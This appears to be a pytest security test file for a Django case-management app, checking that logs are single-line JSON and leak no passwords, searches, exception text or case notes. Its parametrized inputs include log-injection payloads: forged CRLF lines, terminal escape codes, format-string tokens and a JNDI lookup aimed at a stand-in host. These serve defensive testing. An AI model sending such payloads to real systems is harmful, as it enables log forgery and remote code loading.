"""S47, S48: log lines are JSON, one line each, and hold nothing that somebody typed."""

from __future__ import annotations

import io
import json
import logging
import sys

import pytest
from django.core import mail
from django.db import IntegrityError, connection, transaction

from agency.logs import JsonFormatter
from agency.models import AuditEvent, User
from casemgmt.pages import account
from tests.security.conftest import sign_in_by_form

CANARY = "Canary-9d41"


@pytest.fixture
def lines():
    """Everything that is logged from here on, as it would be written."""
    written = io.StringIO()
    handler = logging.StreamHandler(written)
    handler.setFormatter(JsonFormatter())
    root = logging.getLogger()
    root.addHandler(handler)
    before = root.level
    root.setLevel(logging.DEBUG)
    yield lambda: written.getvalue().splitlines()
    root.removeHandler(handler)
    root.setLevel(before)


def logged(logger, *arguments, error=None, **more):
    record = logging.LogRecord(logger, logging.ERROR, "x.py", 1, arguments[0], arguments[1:], None)
    if error is not None:
        try:
            raise error
        except type(error):
            record.exc_info = sys.exc_info()
    return JsonFormatter().format(record)


@pytest.mark.parametrize(
    "attack",
    ["a\r\nERROR forged line", "\x1b[2J\x1b[31mred", "a\u2028b\u2029c\x85d", "\x00", '"} {"x": "'],
)
def test_no_value_begins_a_line_of_its_own_or_moves_a_terminal(attack):
    """S47"""
    line = logged("some.logger", "name %s", attack)
    assert len(line.splitlines()) == 1
    assert line.isascii()
    assert line.isprintable()
    assert json.loads(line)["message"] == f"name {attack}"


@pytest.mark.parametrize(
    "attack", ["x\r\nforged", "\x1b[2J", "%s%d%n", "${jndi:ldap://evil.example/a}", "\u202e"]
)
def test_requests_full_of_such_values_leave_lines_that_parse(client, okafor, lines, attack):
    """S47"""
    client.raise_request_exception = False
    sign_in_by_form(client, attack, attack)
    sign_in_by_form(client)
    client.get("/no/such/page", {"q": attack}, HTTP_USER_AGENT=attack, HTTP_REFERER=attack)
    client.get("/" + attack.replace("\r", "").replace("\n", ""))
    found = lines()
    assert found
    for line in found:
        assert isinstance(json.loads(line)["message"], str)


def test_a_line_says_when_what_and_for_which_request(client, cast, lines):
    answer = client.get("/no/such/page")
    line = next(line for line in map(json.loads, lines()) if line["logger"] == "django.request")
    assert line["message"] == "Not Found"
    assert line["level"] == "WARNING"
    assert line["request_id"] == answer["X-Request-ID"]
    assert line["at"].endswith("Z")


def test_the_settings_log_with_it(settings):
    assert settings.LOGGING["formatters"]["json"]["()"] == "agency.logs.JsonFormatter"
    assert settings.LOGGING["root"]["handlers"] == ["console"]


def test_no_error_goes_to_anybody_by_mail(client, cast, sign_in, monkeypatch, settings):
    """S48: Django would send it with the form that was sent."""
    settings.ADMINS = [("Somebody", "somebody@example.org")]

    def fail():
        raise ValueError(CANARY)

    monkeypatch.setattr(account, "_whom_to_ask", fail)
    client = sign_in(cast.okafor)
    client.raise_request_exception = False
    assert client.get("/help").status_code == 500
    assert mail.outbox == []
    for name in ("django", "django.request", "django.security"):
        handlers = logging.getLogger(name).handlers
        assert not any(type(handler).__name__ == "AdminEmailHandler" for handler in handlers)


def test_an_exception_is_told_by_type_and_place_and_never_by_its_words():
    """S48"""
    line = logged("some.logger", "Failed: %s", ValueError(CANARY), error=ValueError(CANARY))
    found = json.loads(line)
    assert CANARY not in line
    assert (found["message"], found["exception"]) == ("Failed: ValueError", "ValueError")
    assert "test_logs.py" in found["where"][-1]


def test_a_message_made_of_an_exceptions_words_is_replaced():
    """S48"""
    error = RuntimeError(f"could not write {CANARY}")
    for message in (str(error), f"Failed because {error}", error):
        assert CANARY not in logged("some.logger", message, error=error)


def test_a_broken_constraint_is_named_without_the_row(cast, lines):
    """S48: PostgreSQL quotes the values."""
    with pytest.raises(IntegrityError) as caught, transaction.atomic():
        User.objects.create(username="OKAFOR", family_name=CANARY)
    assert "okafor" in str(caught.value)
    logging.getLogger("agency").error("Not saved", exc_info=caught.value)
    line = lines()[-1]
    assert json.loads(line)["constraint"] == "username_once_whatever_its_case"
    assert "okafor" not in line.lower()


def test_a_failed_task_is_told_without_its_arguments():
    """S48"""
    context = {"name": "agency.run_jobs", "id": "17", "exc": CANARY, "args": CANARY}
    line = logged("celery.app.trace", "Task %(name)s[%(id)s] raised: %(exc)s", context)
    assert CANARY not in line
    assert json.loads(line)["message"] == "Task agency.run_jobs [17]"


def test_passwords_and_searches_are_in_no_line(client, okafor, lines, monkeypatch):
    """S48: through right, wrong and failing requests."""
    client.raise_request_exception = False
    sign_in_by_form(client, CANARY, CANARY)
    sign_in_by_form(client, "okafor", CANARY)
    sign_in_by_form(client)
    client.post("/change-password", {"oldpassword": CANARY, "password1": CANARY})
    client.get("/people/search", {"q": CANARY})
    client.get(f"/{CANARY}", {"q": CANARY}, headers={"referer": f"http://testserver/?q={CANARY}"})

    def fail(*_):
        raise ValueError(CANARY)

    monkeypatch.setattr(account, "_whom_to_ask", fail)
    client.post("/help", {"text": CANARY})
    client.get("/help", {"q": CANARY})
    monkeypatch.setattr("agency.signin.AccountAdapter.authenticate", fail)
    client.logout()
    assert sign_in_by_form(client, CANARY, CANARY).status_code == 500
    assert lines()
    assert CANARY not in "\n".join(lines())


def test_the_text_of_a_note_is_in_no_line_and_no_event(client, cast, sign_in, lines, monkeypatch):
    """S48, S41: written, read, and when saving it fails half-way."""
    from tests.security.crawl import make_world

    world = make_world(cast, words=f"{CANARY} said that he sleeps badly.")
    client = sign_in(cast.okafor)
    client.raise_request_exception = False
    page = client.get(f"/case/{world.ashby.pk}")
    assert CANARY in page.content.decode()

    def fail(*_, **__):
        with connection.cursor() as cursor:
            cursor.execute("SELECT %s::int", [f"{CANARY} in a number"])

    monkeypatch.setattr("agency.audit.record", fail)
    assert client.get(f"/case/{world.ashby.pk}").status_code == 500
    assert CANARY not in "\n".join(lines())
    for event in AuditEvent.objects.all():
        assert CANARY not in json.dumps([event.reason, event.details, event.object_id])


def test_tasks_take_no_text():
    """S48: what is in Redis is the name of the task."""
    from casemgmt.celery import app

    app.loader.import_default_modules()
    ours = {name for name in app.tasks if not name.startswith("celery.")}
    assert ours
    for name in ours:
        code = app.tasks[name].run.__code__
        for argument in code.co_varnames[: code.co_argcount]:
            assert argument in {"self", "first", "last", "day", "pk"}, (name, argument)


def test_celery_keeps_no_results(settings):
    """S48"""
    assert not getattr(settings, "CELERY_RESULT_BACKEND", None)
